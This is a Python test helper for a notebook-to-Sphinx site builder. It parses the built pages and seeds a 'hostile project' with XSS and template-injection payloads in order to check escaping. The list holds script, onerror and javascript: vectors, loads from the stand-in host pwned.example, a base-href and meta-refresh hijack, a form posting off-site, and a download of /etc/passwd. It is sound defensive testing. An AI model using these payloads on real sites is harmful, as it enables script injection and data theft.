"""Sites to test: how they are built, what their pages are made of, and a source up to mischief."""

import csv
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from html.parser import HTMLParser
from itertools import product
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from helpers import evidence, finding, read_corpus
from helpers.figures.sheet import Link, Sheet
from helpers.findings import cite

ROOT = Path(__file__).resolve().parent.parent

# How a sentence is cited: a source and the number of the sentence.
CITATION = re.compile(r"^\[(\w+):(\d+)\]$")

_VOID = set("area base br col embed hr img input link meta source track wbr".split())
_KERNEL = {
    "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
    "language_info": {"name": "python", "pygments_lexer": "ipython3"},
}


class Page(HTMLParser):
    """What a page is made of.

    `elements` are tags with their attributes, `links` are addresses with the words that lead there,
    `words` are those inside the element of each id (cards, notes and numbers of sentences aside),
    `data` what it tells machines, as JSON.
    """

    def __init__(self, path: Path):
        super().__init__()
        self.path = path
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.links: list[tuple[str, str]] = []
        self.words: dict[str, str] = {}
        self.inline_scripts: list[str] = []
        self.data: list[str] = []
        self._open: list[tuple[str, dict[str, str]]] = []
        self.feed(path.read_text(encoding="utf-8"))

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes))
        if "id" in attributes:
            self.words.setdefault(attributes["id"], "")
        if tag == "a" and "href" in attributes:
            self.links.append((attributes["href"], ""))
        if tag not in _VOID:
            self._open.append((tag, attributes))

    def handle_endtag(self, tag):
        while self._open and self._open.pop()[0] != tag:
            pass

    def handle_data(self, data):
        tags = [tag for tag, _ in self._open]
        if "a" in tags:
            href, words = self.links[-1]
            self.links[-1] = (href, words + data)
        if tags[-1:] == ["script"] and data.strip():
            kind = self._open[-1][1].get("type")
            (self.data if kind == "application/ld+json" else self.inline_scripts).append(data)
        for _, attributes in reversed(self._open):
            if "id" in attributes:
                self.words[attributes["id"]] += data
            if attributes.get("class") in ("card", "number", "coded note"):
                break

    def values(self, name: str) -> list[str]:
        """The values of an attribute, wherever it stands."""
        return [attributes[name] for _, attributes in self.elements if name in attributes]

    @property
    def markup(self) -> set[tuple[str, str]]:
        """Which elements have which attributes."""
        return {(tag, name) for tag, attributes in self.elements for name in ("", *attributes)}


def pages(site: Path) -> dict[str, Page]:
    """All pages of a site by their address."""
    return {path.relative_to(site).as_posix(): Page(path) for path in sorted(site.rglob("*.html"))}


def build(notebooks: Path, out: Path, hash_seed: int = 0) -> None:
    """Build a site as `make site` does; `hash_seed` orders Python's sets."""
    command = [sys.executable, "-m", "sphinx", "--fail-on-warning", "--keep-going", "--quiet"]
    done = subprocess.run(
        [*command, "--doctree-dir", f"{out}-doctrees", str(notebooks), str(out)],
        env={"PYTHONHASHSEED": str(hash_seed), "PYTHONPATH": ":".join(sys.path)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stderr) == (0, ""), done.stderr


# Each tries to run a script (or to leave an element behind) in its own way.
_VECTORS = (
    "<script>pwned=1</script>",
    "<script src=//pwned.example/x.js></script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1><a href=javascript:pwned=1>x</a></svg>",
    "<svg><script>pwned=1</script></svg>",
    "<math><mtext></mtext><img src=x onerror=pwned=1></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<details open ontoggle=pwned=1>x</details>",
    "<a href='javascript:pwned=1' id=pwned>x</a>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content='0;url=//pwned.example/'>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<form action=//pwned.example/><button>x</button></form>",
    "[x](javascript:pwned=1)",
    "![x](//pwned.example/x.png)",
    "<javascript:pwned=1>",
    "{raw}`<script>pwned=1</script>`",
    "{eval}`pwned=1` {ref}`pwned` {download}`/etc/passwd`",
    "```{raw} html <script>pwned=1</script> ```",
    "{{ pwned }} {% include 'conf.py' %} ${pwned}",
    "$\\href{javascript:pwned=1}{x}$",
    "<!-- --><script>pwned=1</script><!--",
    "<![CDATA[<script>pwned=1</script>]]>",
    "&lt;script&gt;pwned=1&lt;/script&gt;&#60;script>",
    "\u202e<script>pwned=1</script>\u2066\u200b\u200f",
    "w" * 1000,
)
_WAYS = (
    "{}",
    '"{}"',
    '\'" onmouseover=pwned=1 x="{}',
    "China bans {} and cryptocurrency trading.",
    'In 2019 Beijing said that it "supports blockchain" {} in Hong Kong.',
    "</bdi></mark></a></span></p></section>{}",
    "--></title></script></style></textarea>{}",
    "- {} > # | x | y |",
)
PAYLOADS = [way.format(vector) for vector, way in product(_VECTORS, _WAYS)]


def _hand_pages(notebooks: Path) -> None:
    """The pages written by hand, with the settings, and without notebooks beside them."""
    shutil.copytree(
        ROOT / "notebooks", notebooks, ignore=shutil.ignore_patterns("*.ipynb", "findings.json")
    )
    for filled in ("glossary.md", "method.md"):  # with what only the collection's own sources have
        (notebooks / filled).write_text("# Nothing of these sources\n", encoding="utf-8")


def other_project(folder: Path) -> tuple[Path, Path]:
    """A project in which a notebook was executed from other sources; returns both folders."""
    notebooks, seeds, executed = (
        folder / "notebooks",
        folder / "few",
        folder / "build/few/notebooks",
    )
    _hand_pages(notebooks)
    shutil.copytree(ROOT / "seeds/record", seeds / "record")
    (seeds / "one.txt").write_text("China bans coins.\n\nIt likes chains.\n", encoding="utf-8")
    executed.mkdir(parents=True)
    nbformat.write(_quoting(seeds, "../../../few"), executed / "01_who_is_quoted.ipynb")
    return notebooks, seeds


def hostile_project(folder: Path) -> Path:
    """A project whose source, sources.csv and record all carry payloads; returns its notebooks."""
    notebooks, seeds = folder / "notebooks", folder / "seeds"
    _hand_pages(notebooks)
    shutil.copytree(ROOT / "seeds/record", seeds / "record")
    (seeds / "x'\"><b>.txt").write_text("\n\n".join(PAYLOADS), encoding="utf-8")
    with (seeds / "sources.csv").open("w", encoding="utf-8", newline="") as file:
        columns = ("source", "file", "title", "publisher", "published_basis")
        csv.writer(file).writerows([columns, ("'\"><b>", "x'\"><b>.txt", *PAYLOADS[:3])])
    (seeds / "record/checks.csv").write_text(
        (seeds / "record/checks.csv").read_text(encoding="utf-8").splitlines()[0] + "\n"
    )
    _replace_words(
        seeds / "record/events.csv", ("issuer", "place", "title", "summary", "publisher")
    )
    _replace_words(seeds / "record/series.csv", ("series", "unit", "publisher", "note"))
    nbformat.write(_quoting(seeds, "../seeds"), notebooks / "01_who_is_quoted.ipynb")
    return notebooks


def _replace_words(path: Path, columns: tuple[str, ...]) -> None:
    with path.open(encoding="utf-8", newline="") as file:
        head, *rows = csv.reader(file)
    for number, row in enumerate(rows):
        for column in columns:
            row[head.index(column)] = f"{PAYLOADS[number % len(PAYLOADS)]} {number}"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([head, *rows])


def _quoting(seeds: Path, folder: str) -> nbformat.NotebookNode:
    """A notebook that quotes every sentence: in a finding, a table, a figure, and as plain text.

    `folder` is how it writes the folder `seeds`, as its working directory is its own folder.
    """
    corpus = replace(read_corpus(seeds), folder=Path(folder))
    rows = evidence(corpus, corpus.sentences, caption=PAYLOADS[0])
    says = finding("hostile.quotes", "It says {words:quote}.", {"words": PAYLOADS[1]}, rows)
    sheet = Sheet(20 * len(corpus.sentences))
    for number, row in enumerate(corpus.sentences.to_dict("records")):
        sheet.text(8, 20 * number, row["exact"][:80], link=Link.to(cite(corpus, row)))
    figure = sheet.figure(PAYLOADS[2], says)
    outputs = [
        new_output("display_data", says._repr_mimebundle_()),
        new_output("display_data", {"text/html": rows._repr_html_()}),
        new_output("display_data", {"image/svg+xml": figure.svg}),
        new_output("display_data", {"text/plain": "\n".join(PAYLOADS)}),
        new_output("stream", name="stdout", text="\n".join(PAYLOADS)),
        new_output("display_data", {"application/javascript": "pwned=1", "text/plain": "none"}),
    ]
    cells = [new_markdown_cell("# Who is quoted?"), new_code_cell("1", outputs=outputs)]
    return new_notebook(cells=cells, metadata=_KERNEL)
